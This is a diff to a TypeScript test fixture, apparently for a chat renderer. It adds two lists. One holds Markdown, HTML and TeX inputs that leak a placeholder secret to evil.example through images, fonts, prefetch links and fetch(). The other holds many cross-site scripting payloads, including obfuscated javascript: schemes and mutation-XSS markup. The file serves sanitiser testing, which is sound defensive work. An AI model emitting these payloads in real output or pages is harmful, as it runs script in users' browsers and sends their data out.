@@ -26,10 +26,27 @@ export const exfiltrations: readonly string[] = [
   '<body background="https://evil.example/SECRET">',
   'https://secret-a.evil.example/ and [x](https://secret-b.evil.example/?d=SECRET)',
   '```html\n<img src="https://evil.example/SECRET">\n```\n\n| ![p](https://evil.example/t.png) |\n| --- |\n| <img src=https://evil.example/t> |',
+  '<style>@font-face{font-family:x;src:url(https://evil.example/SECRET)} *{font-family:x}</style>',
+  '<link rel="prefetch" href="https://evil.example/SECRET"><link rel="prerender" href="https://evil.example/SECRET">',
+  '<link rel="modulepreload" href="https://evil.example/SECRET"><link rel="icon" href="https://evil.example/SECRET">',
+  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/SECRET"]}]}</script>',
+  '<svg><use href="https://evil.example/SECRET#x"/><feImage href="https://evil.example/SECRET"/></svg>',
+  '<math><mtext href="https://evil.example/SECRET">x</mtext><mglyph src="https://evil.example/SECRET"/></math>',
+  '<a href="https://secret-c.evil.example" rel="preconnect dns-prefetch" autofocus>x</a>',
+  '<https://secret-d.evil.example/?d=SECRET> and [x]: https://secret-e.evil.example',
+  '![p](data:image/svg+xml;utf8,<svg/onload=fetch("https://evil.example/SECRET")>)',
+  '![p](<https://evil.example/a b.png> "t") ![][2] ![2]\n\n[2]: <https://evil.example/SECRET>',
+  '- [ ] ![p](https://evil.example/p.png)\n- [x] <img src=https://evil.example/q>',
+  '\\( \\includegraphics{https://evil.example/SECRET.png} \\)',
+  '\\[ \\href{https://evil.example/SECRET}{x} \\url{https://evil.example/SECRET} \\]',
+  '$$\\htmlStyle{background:url(https://evil.example/SECRET)}{x} \\style{background:url(https://evil.example/SECRET)}{x}$$',
+  '\\boxed{\\text{<img src="https://evil.example/SECRET">}} \\( \\ref{https://evil.example/SECRET} \\)',
 ];
 
-/** Answers that try to run script in the page. */
-export const scripts: readonly string[] = [
+/** What all scripts here do, so that one that ran is seen. */
+const run = 'window.pwned=1';
+
+const known: readonly string[] = [
   'Hi <script>window.pwned = 1; alert(1)</script> there',
   "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
   '<img src=x onerror="window.pwned = 1">',
@@ -57,3 +74,145 @@ export const scripts: readonly string[] = [
   '&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;',
   '[\u202ex](https://ok.example) \u0000<script\u0000>window.pwned = 1</script>',
 ];
+
+/** Elements that run the script of an event by themselves or when something passes over them. */
+const elements: readonly (readonly [string, string, string?])[] = [
+  ['img src=x', 'onerror'],
+  ['image src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['iframe src=about:blank', 'onload', '</iframe>'],
+  ['object data=x', 'onerror', '</object>'],
+  ['embed src=x', 'onload'],
+  ['video src=x', 'onerror', '</video>'],
+  ['audio src=x', 'onerror', '</audio>'],
+  ['video><source', 'onerror', '</video>'],
+  ['input autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus', '</select>'],
+  ['textarea autofocus', 'onfocus', '</textarea>'],
+  ['button autofocus', 'onfocus', 'x</button>'],
+  ['a href=x autofocus', 'onfocus', 'x</a>'],
+  ['details open', 'ontoggle', 'x</details>'],
+  ['marquee', 'onstart', 'x</marquee>'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['style', 'onload', '</style>'],
+  ['script src=x', 'onerror', '</script>'],
+  ['div style="animation:x 1s" tabindex=0 autofocus', 'onanimationstart', 'x</div>'],
+  ['p', 'onmouseover', 'x</p>'],
+  ['dialog open', 'onclose', 'x</dialog>'],
+  ['input type=image src=x', 'onerror'],
+  ['form', 'oninput', '<input autofocus></form>'],
+];
+
+/** One tag in the spellings that get past a search for tags or attributes. */
+const tags: readonly string[] = elements.flatMap(([start, event, end = '']) => [
+  `<${start} ${event}="${run}">${end}`,
+  `<${start.toUpperCase()}\n${event.toUpperCase()}\n=\n'${run}'>${end}`,
+  `> - <${start}/${event}=${run}//${end}`,
+  `\`<${start} ${event}=${run}>${end}`,
+]);
+
+const schemes: readonly string[] = [
+  'javascript:',
+  'JAVASCRIPT:',
+  'jAvAsCrIpT:',
+  'java\tscript:',
+  'java&Tab;script:',
+  'java&NewLine;script:',
+  'javascript&colon;',
+  'javascript&#58;',
+  'javascript&#x3a;',
+  '&#106;avascript:',
+  '&#x6A;avascript:',
+  '&#0000106avascript:',
+  'javascript%3A',
+  '%6Aavascript:',
+  'java%0Ascript:',
+  '\u0001javascript:',
+  '\u00a0javascript:',
+  '\u200bjavascript:',
+  'java\u00adscript:',
+  'view-source:javascript:',
+  'feed:javascript:',
+  'javascript://example.org/%0A',
+  'javascript:/*https://example.org*/',
+  'data:text/html,<script>window.pwned=1</script>',
+  'vbscript:',
+  'blob:',
+];
+
+/** Each spelling of a scheme where Markdown takes an address. */
+const addresses: readonly string[] = schemes.flatMap(scheme => [
+  `[click](${scheme}${run}) [click](<${scheme}${run}>)`,
+  `<${scheme}${run}> ![x](${scheme}${run}) [${scheme}${run}]`,
+  `[a][x] [x]\n\n[x]: ${scheme}${run} "title"`,
+]);
+
+/** Markup that becomes something else when a browser reads it twice or in another namespace. */
+const mutations: readonly string[] = [
+  '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>',
+  '<svg><script>window.pwned=1</script></svg><svg><script href="data:,window.pwned=1"/></svg>',
+  '<svg><animate attributeName=href values=javascript:window.pwned=1 /><a><text>x</text></a></svg>',
+  '<svg><set attributeName="onmouseover" to="window.pwned=1"/></svg>',
+  '<math href="javascript:window.pwned=1">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:window.pwned=1">x</maction></math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1></annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src>">',
+  '<template><style><!--</style></template><img title="--><img src=x onerror=window.pwned=1>">',
+  '<select><style></select><img src=x onerror=window.pwned=1></style>',
+  '<textarea></textarea><img src=x onerror=window.pwned=1></textarea><title><img src=x onerror=window.pwned=1></title>',
+  '<!--><img src=x onerror=window.pwned=1>--><![CDATA[<img src=x onerror=window.pwned=1>]]>',
+  '<?xml-stylesheet href="javascript:window.pwned=1"?><?php window.pwned=1 ?>',
+  '<scr<script>ipt>window.pwned=1</scr</script>ipt> <<img src=x onerror=window.pwned=1>>',
+  '<div id="root" data-maths="data:,window.pwned=1"></div><base href="data:,window.pwned=1//">',
+  '<p slot=x is=x><x-a onclick=window.pwned=1 contenteditable autofocus onfocus=window.pwned=1>x</x-a>',
+];
+
+/** Code, links and tables whose own words are markup. */
+const tricks: readonly string[] = [
+  '[<img src=x onerror=window.pwned=1>](https://ok.example)',
+  '[x](https://ok.example "\\"><img src=x onerror=window.pwned=1>")',
+  '![<img src=x onerror=window.pwned=1>](x)',
+  '``` <img src=x onerror=window.pwned=1>\ncode\n```',
+  '```ts title="\\"><img src=x onerror=window.pwned=1>"\ncode\n```',
+  '```ts"onmouseover="window.pwned=1\ncode\n```',
+  '```"><script>window.pwned=1</script>\n',
+  '| a |\n| :-:" onclick="window.pwned=1 |\n| b |',
+  '| a |\n| :-: |\n| `<script>window.pwned=1</script>` <script>window.pwned=1</script> |',
+  '1337"onclick="window.pwned=1. item\n2. item',
+  '- [x] <img src=x onerror=window.pwned=1>\n- [ ] <script>window.pwned=1</script>',
+  '`"><img src=x onerror=window.pwned=1>.ts:3` and `constructor()` `__proto__` toString.ts',
+  'src/"onclick="window.pwned=1".ts:1 and `javascript:window.pwned=1.ts` [x](src/javascript:window.pwned=1.ts)',
+  '# <img src=x onerror=window.pwned=1>\n\n> <script>window.pwned=1</script>\n\n---',
+  '**<b onclick=window.pwned=1>**x**</b>** ~~<script>window.pwned=1</script>~~',
+];
+
+/** TeX that asks for links, attributes, styles and HTML, or that hides them in text. */
+const formulas: readonly string[] = [
+  '\\href{javascript:window.pwned=1}{x}',
+  '\\url{javascript:window.pwned=1}',
+  '\\htmlData{onclick=window.pwned=1}{x}',
+  '\\htmlId{root}{x} \\id{root}{x}',
+  '\\htmlClass{x" onclick="window.pwned=1}{x}',
+  '\\class{x" onclick="window.pwned=1}{x}',
+  '\\style{x" onclick="window.pwned=1}{x}',
+  '\\htmlStyle{background:url(javascript:window.pwned=1)}{x}',
+  '\\includegraphics{x" onerror="window.pwned=1}',
+  '\\unicode{<img src=x onerror=window.pwned=1>}',
+  '\\text{<img src=x onerror=window.pwned=1>}',
+  '\\text{</mtext></math><script>window.pwned=1</script>}',
+  '\\color{red" onclick="window.pwned=1}x',
+  '\\textcolor{#fff;background:url(javascript:window.pwned=1)}{x}',
+  '\\label{x" onclick="window.pwned=1} \\ref{javascript:window.pwned=1} \\eqref{x}',
+  '\\tag{<script>window.pwned=1</script>} x',
+  '\\operatorname{<svg onload=window.pwned=1>}',
+  '\\def\\x{\\href{javascript:window.pwned=1}}\\x{y}',
+  '\\hspace{1em" onclick="window.pwned=1} x',
+  '\\begin{array}{c" onclick="window.pwned=1}x\\end{array}',
+  '\\verb|<img src=x onerror=window.pwned=1>| \\#root',
+].flatMap(tex => [`\\( ${tex} \\)`, `\\[\n${tex}\n\\]`]);
+
+/** Answers that try to run script in the page. Any that does sets `window.pwned`. */
+export const scripts: readonly string[] = [...known, ...tags, ...addresses, ...mutations, ...tricks, ...formulas];
